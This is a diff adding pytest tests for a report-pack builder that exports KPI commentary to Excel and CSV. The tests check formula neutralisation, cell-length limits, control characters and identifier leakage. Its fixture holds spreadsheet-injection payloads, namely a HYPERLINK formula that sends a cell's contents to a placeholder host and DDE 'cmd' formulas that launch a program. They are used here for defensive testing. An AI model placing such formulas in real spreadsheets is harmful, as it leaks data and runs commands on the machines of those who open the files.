@@ -710,3 +710,155 @@ def test_repository_sample_commentary_is_valid():
     sample = Path(__file__).parents[1] / "commentary" / f"{MONTH}.yaml"
     texts, _ = parse_commentary(sample, KNOWN)
     assert set(texts) == KNOWN
+
+
+# --- hostile commentary (issue 16; the review's case numbers) ----------------------------------
+
+FORMULAS = {
+    "kpi_01": '=HYPERLINK("https://example.invalid/?x="&A1,"Click")',
+    "kpi_02": "=cmd|' /C calc'!A0",
+    "kpi_03": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "kpi_05": "+1+1 referrals over target",
+    "kpi_06": "#N/A is not a figure",
+}
+# 8,000 five-letter words: 47,999 characters once the trailing space is stripped, more than
+# the 32,767 an Excel cell holds.
+LONG_COMMENTARY = "words " * 8_000
+
+
+def _yaml_quoted(text: str) -> str:
+    return "'" + text.replace("'", "''") + "'"
+
+
+@pytest.fixture(scope="module")
+def hostile_pack(hand_fixture_warehouse, tmp_path_factory):
+    """The hand fixture's pack (March 2018) with formulas and an over-long paragraph as
+    commentary, built straight from its warehouse (no PDF)."""
+    from orchestration.report_pack.build import build_pack
+
+    work = tmp_path_factory.mktemp("hostile_pack")
+    (work / "commentary").mkdir()
+    lines = [f"{page}: {_yaml_quoted(text)}" for page, text in FORMULAS.items()]
+    lines.append(f"kpi_04: {LONG_COMMENTARY}")
+    (work / "commentary" / "2018-03.yaml").write_text("\n".join(lines) + "\n")
+    con = duckdb.connect(str(hand_fixture_warehouse), read_only=True)
+    try:
+        result = build_pack(
+            con, work / "exports", "2018-03", [work / "commentary"], make_pdf=False, log=print
+        )
+    finally:
+        con.close()
+    return result
+
+
+def test_c2_commentary_formulas_are_text_in_the_workbook(hostile_pack):
+    # Was: `=HYPERLINK(...)` became a live formula in kpi_pack.xlsx, and `#N/A` an error value.
+    with zipfile.ZipFile(hostile_pack.workbook) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        xml = "".join(archive.read(n).decode() for n in sheets)
+    assert "<f>" not in xml and "<f " not in xml, "a formula in the workbook"
+    assert 't="e"' not in xml, "an error value in the workbook"
+    workbook = openpyxl.load_workbook(hostile_pack.workbook)
+    cells = {
+        cell.value: cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+    for text in FORMULAS.values():
+        cell = cells[text]  # the commentary as written, character for character
+        assert cell.data_type == "s", text
+        if text[0] in "=+-@":
+            assert cell.quotePrefix, text  # stays text when someone edits the cell
+
+
+def test_c5_over_long_commentary_continues_in_the_next_cells_never_cut(hostile_pack):
+    # Was: the cell was cut to 32,767 characters without a word.
+    sheet = openpyxl.load_workbook(hostile_pack.workbook)["KPI 4"]
+    column = [row[0] for row in sheet.iter_rows(values_only=True)]
+    start = column.index("Commentary") + 1
+    parts = [value for value in column[start:] if value]
+    assert len(parts) == 2 and all(len(p) <= 32_767 for p in parts)
+    assert " ".join(parts) == LONG_COMMENTARY.strip()
+
+
+def test_text_longer_than_a_cell_stops_the_pack_naming_page_and_limit():
+    # openpyxl itself cuts a longer text to 32,767 characters without a word.
+    from orchestration.report_pack.workbook import check_cell_lengths
+
+    data = SimpleNamespace(pages=[SimpleNamespace(page_id="kpi_09", definition="d" * 32_768)],
+                           tables={})  # fmt: skip
+    with pytest.raises(ReportPackError, match=r"page kpi_09: its definition has 32,768 "
+                       r"characters, more than the 32,767 an Excel cell holds"):  # fmt: skip
+        check_cell_lengths(data)
+    table = pd.DataFrame({"measure": ["fine", "m" * 40_000], "value": [1.0, 2.0]})
+    data = SimpleNamespace(pages=[], tables={"rpt_kpi_09": table})
+    with pytest.raises(ReportPackError, match=r"rpt_kpi_09\.measure holds a text of 40,000 "):
+        check_cell_lengths(data)
+
+
+def test_csv_tables_carry_no_formula():
+    from orchestration.report_pack.tables import csv_frame
+
+    frame = pd.DataFrame(
+        {
+            "measure": ["=1+1", "+44 7700", "-2", "@SUM(A1)", "\tx", "\rx", "Referrals", None],
+            "value": [1.0, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
+        }
+    )
+    shown = csv_frame(frame)
+    assert shown["measure"].tolist()[:7] == [
+        "'=1+1", "'+44 7700", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "Referrals",
+    ]  # fmt: skip
+    assert pd.isna(shown["measure"].iloc[7])
+    assert shown["value"].tolist() == frame["value"].tolist()  # numbers stay numbers
+
+
+def test_c6_control_characters_in_commentary_fail_naming_file_line_and_character(tmp_path):
+    # Was: the pack failed with "Error occurred while executing op" only.
+    path = tmp_path / "2018-12.yaml"
+    path.write_text("kpi_01: fine\nkpi_02: rings \x07 a bell\n")
+    with pytest.raises(
+        ReportPackError,
+        match=r"2018-12\.yaml, line 2, column 15: the control character U\+0007 \(BEL\)",
+    ):
+        parse_commentary(path, KNOWN)
+    path.write_text('kpi_01: fine\nkpi_02: "written as an escape \\0"\n')
+    with pytest.raises(
+        ReportPackError,
+        match=r"2018-12\.yaml, line 2: the commentary for kpi_02 holds the control character "
+        r"U\+0000 \(NUL\)",
+    ):
+        parse_commentary(path, KNOWN)
+
+
+def test_c8_identifiers_are_found_after_punctuation_and_inside_words(tmp_path):
+    # Was: "case no.1000234" and "child_1000234" passed the check though 1000234 is an id.
+    path = tmp_path / "2018-12.yaml"
+    for text in ("Reviewed case no.1000234 today.", "Escalated child_1000234.", "(1000234)"):
+        path.write_text(f"kpi_02: {_yaml_quoted(text)}\n")
+        texts, lines = parse_commentary(path, KNOWN)
+        commentary = Commentary(MONTH, path, [tmp_path], texts, lines)
+        with pytest.raises(ReportPackError, match="contains 1000234, an identifier"):
+            check_no_identifiers(commentary, lambda found: found & {"1000234"})
+    # Counts, percentages and years are not taken for ids.
+    path.write_text("kpi_02: 'Up 12.5% on 2018: 1,234 of 10,000 (no. 3).'\n")
+    texts, lines = parse_commentary(path, KNOWN)
+    seen: set[str] = set()
+    check_no_identifiers(
+        Commentary(MONTH, path, [tmp_path], texts, lines), lambda found: seen.update(found) or set()
+    )
+    assert seen == set()
+
+
+def test_identifiers_are_those_the_extract_contract_names(hand_fixture_warehouse):
+    from orchestration.report_pack.tables import find_identifiers
+
+    con = duckdb.connect(str(hand_fixture_warehouse), read_only=True)
+    try:
+        # P1 a person, RV3 a review, CP7 a plan; WBRI an ethnicity and F a sex are not ids.
+        found = find_identifiers(con, {"P1", "RV3", "CP7", "WBRI", "F", "nothing"})
+    finally:
+        con.close()
+    assert found == {"P1", "RV3", "CP7"}
